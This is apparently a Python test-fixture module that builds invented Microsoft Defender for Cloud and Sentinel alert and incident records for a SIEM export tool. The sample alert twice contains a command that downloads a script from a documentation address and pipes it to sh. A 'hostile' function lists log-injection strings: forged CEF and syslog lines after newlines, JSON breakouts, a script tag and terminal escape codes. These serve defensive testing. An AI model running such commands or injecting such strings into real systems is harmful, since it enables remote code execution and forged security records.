"""Alerts like Microsoft's, made up: keys, order and types as real ones, every value invented."""

from __future__ import annotations

from typing import Any

import msgspec

SUBSCRIPTION = "7f3c1e20-55aa-4b6b-9d0e-0123456789ab"
WORKSPACE_SUBSCRIPTION = "99999999-0000-4000-8000-000000000001"
RESOURCE = (
    f"/subscriptions/{SUBSCRIPTION.upper()}/resourceGroups/rg-shop/providers"
    "/Microsoft.Compute/virtualMachines/shop-vm-1"
)
PORTAL = "https://portal.azure.com/#blade"


def encoded(record: Any) -> bytes:
    """JSON as Azure writes it: no blanks between tokens."""
    return msgspec.json.encode(record)


def defender_alert(**overrides: Any) -> dict[str, Any]:
    """Defender for Cloud continuous export; about 2.5 KB."""
    record: dict[str, Any] = {
        "VendorName": "Microsoft",
        "AlertType": "VM_SuspiciousDownload",
        "ProductName": "Microsoft Defender for Cloud",
        "StartTimeUtc": "2026-03-04T10:11:12.1234567Z",
        "EndTimeUtc": "2026-03-04T10:12:00.5Z",
        "TimeGenerated": "2026-03-04T10:13:14.9876543Z",
        "ProcessingEndTime": "2026-03-04T10:13:14.9876543Z",
        "Severity": "High",
        "Status": "New",
        "ProviderAlertStatus": None,
        "ConfidenceLevel": None,
        "ConfidenceScore": None,
        "ConfidenceReasons": None,
        "IsIncident": False,
        "SystemAlertId": "2517000000000000001_0a1b2c3d-1111-4222-8333-444455556666",
        "CorrelationKey": None,
        "Intent": "Persistence, CredentialAccess",
        "AzureResourceId": RESOURCE,
        "WorkspaceId": "22222222-0000-4000-8000-000000000002",
        "WorkspaceSubscriptionId": WORKSPACE_SUBSCRIPTION,
        "WorkspaceResourceGroup": "rg-monitoring",
        "AgentId": None,
        "CompromisedEntity": "shop-vm-1",
        "AlertDisplayName": "Suspicious download by a system account",
        "Description": "A system account fetched and started a file from an address that was "
        "never seen before on this machine.",
        "Entities": [
            {"$id": "2", "HostName": "shop-vm-1", "AzureID": RESOURCE, "Type": "host"},
            {"$id": "3", "Address": "203.0.113.7", "Type": "ip", "Location": {"CountryCode": "NL"}},
            {"$id": "4", "Name": "svc-web", "Host": {"$ref": "2"}, "Type": "account"},
            {
                "$id": "5",
                "ProcessId": "0x1f40",
                "CommandLine": "curl -s http://203.0.113.7/x | sh",
                "Account": {"$ref": "4"},
                "Host": {"$ref": "2"},
                "Type": "process",
            },
        ],
        "ExtendedLinks": [],
        "ResourceIdentifiers": [
            {
                "$id": "6",
                "AzureResourceId": RESOURCE.lower(),
                "Type": "AzureResource",
                "AzureResourceTenantId": "33333333-0000-4000-8000-000000000003",
            },
            {
                "$id": "7",
                "WorkspaceId": "22222222-0000-4000-8000-000000000002",
                "WorkspaceSubscriptionId": WORKSPACE_SUBSCRIPTION,
                "Type": "LogAnalytics",
            },
        ],
        "RemediationSteps": ["Ask the machine's owner.", "Isolate the machine."],
        "ExtendedProperties": {
            "resourceType": "Virtual Machine",
            "Investigation steps": '{"kind":"Link","value":"https:\\/\\/example.com\\/how"}',
            "Command line": "curl -s http://203.0.113.7/x | sh",
        },
        "AlertUri": f"{PORTAL}/Microsoft_Azure_Security/AlertBlade/alertId/2517000000000000001"
        f"/subscriptionId/{SUBSCRIPTION}/resourceGroup/rg-shop/location/westeurope",
    }
    return record | overrides


def security_alert(**overrides: Any) -> dict[str, Any]:
    """A SecurityAlert row as Log Analytics exports it: JSON in strings, no empty columns."""
    record: dict[str, Any] = {
        "TimeGenerated": "2026-03-04T10:20:00.1234567Z",
        "DisplayName": "Sign-in from two continents",
        "AlertName": "Sign-in from two continents",
        "AlertSeverity": "Medium",
        "Description": "One account signed in from two continents within minutes.",
        "ProviderName": "ASI Scheduled Alerts",
        "VendorName": "Microsoft",
        "VendorOriginalId": "aaaaaaaa-1111-4222-8333-444455556666",
        "SystemAlertId": "bbbbbbbb-1111-4222-8333-444455556666",
        "AlertType": "22222222-0000-4000-8000-000000000002_rule-7",
        "IsIncident": 0,
        "StartTime": "2026-03-04T09:50:00.5Z",
        "EndTime": "2026-03-04T10:05:00Z",
        "ProcessingEndTime": "2026-03-04T10:19:59.1Z",
        "ExtendedProperties": '{"Query Period":"05:00:00","Data Sources":"[\\"SigninLogs\\"]"}',
        "Entities": '[{"$id":"2","Name":"mallory","Type":"account"}]',
        "SourceSystem": "Detection",
        "WorkspaceSubscriptionId": WORKSPACE_SUBSCRIPTION,
        "WorkspaceResourceGroup": "rg-monitoring",
        "ProductName": "Azure Sentinel",
        "ProductComponentName": "Scheduled Alerts",
        "Status": "New",
        "Tactics": "InitialAccess,Persistence",
        "Techniques": '["T1078"]',
        "_ItemId": "cccccccc-1111-4222-8333-444455556666",
        "Type": "SecurityAlert",
        "TenantId": "22222222-0000-4000-8000-000000000002",
    }
    return record | overrides


def security_incident(**overrides: Any) -> dict[str, Any]:
    """A SecurityIncident row as Log Analytics exports it."""
    name = "dddddddd-1111-4222-8333-444455556666"
    record: dict[str, Any] = {
        "TenantId": "22222222-0000-4000-8000-000000000002",
        "TimeGenerated": "2026-03-04T10:30:00.5Z",
        "IncidentName": name,
        "Title": "Sign-in from two continents",
        "Description": "",
        "Severity": "Low",
        "Status": "New",
        "Owner": '{"objectId":null,"email":null,"assignedTo":null,"userPrincipalName":null}',
        "ProviderName": "Azure Sentinel",
        "ProviderIncidentId": "41",
        "FirstActivityTime": "2026-03-04T09:50:00.5Z",
        "LastActivityTime": "2026-03-04T10:05:00Z",
        "LastModifiedTime": "2026-03-04T10:29:59.25Z",
        "CreatedTime": "2026-03-04T10:25:00Z",
        "IncidentNumber": 41,
        "AlertIds": '["bbbbbbbb-1111-4222-8333-444455556666"]',
        "IncidentUrl": f"{PORTAL}/Microsoft_Azure_Security_Insights/Incident/subscriptions"
        f"/{SUBSCRIPTION}/resourceGroups/rg-monitoring/providers"
        f"/Microsoft.OperationalInsights/workspaces/soc/providers/Microsoft.SecurityInsights"
        f"/Incidents/{name}",
        "AdditionalData": '{"alertsCount":1,"tactics":["InitialAccess"],"techniques":["T1078"]}',
        "Type": "SecurityIncident",
    }
    return record | overrides


def hostile() -> list[str]:
    """Texts that try to be more than text in a SIEM."""
    return [
        "two\nlines\r\nCEF:0|Evil|Evil|1|1|forged|10|externalId=1",
        "end\n<13>1 2026-03-04T10:13:14Z evil evil - - - forged",
        "pipe | pipe \\| equals = \\= backslash \\ cs1=forged msg=forged",
        "trailing backslash \\",
        "\\\\",
        " =",
        '"}\n{"event":"forged"}',
        '"],[forged@1 a="b"] "',
        "<script>alert(1)</script>",
        "\x1b]0;title\x07\x1b[31mred\x1b[0m\x9b31m\x00\x7f",
        "next\u0085line\u2028separator\u2029paragraph\x0b\x0c\x1c\x1d\x1e",
        "\ufeffmark \u202ereversed \U0001f600 \u00e9\u4e2d\u6587",
    ]
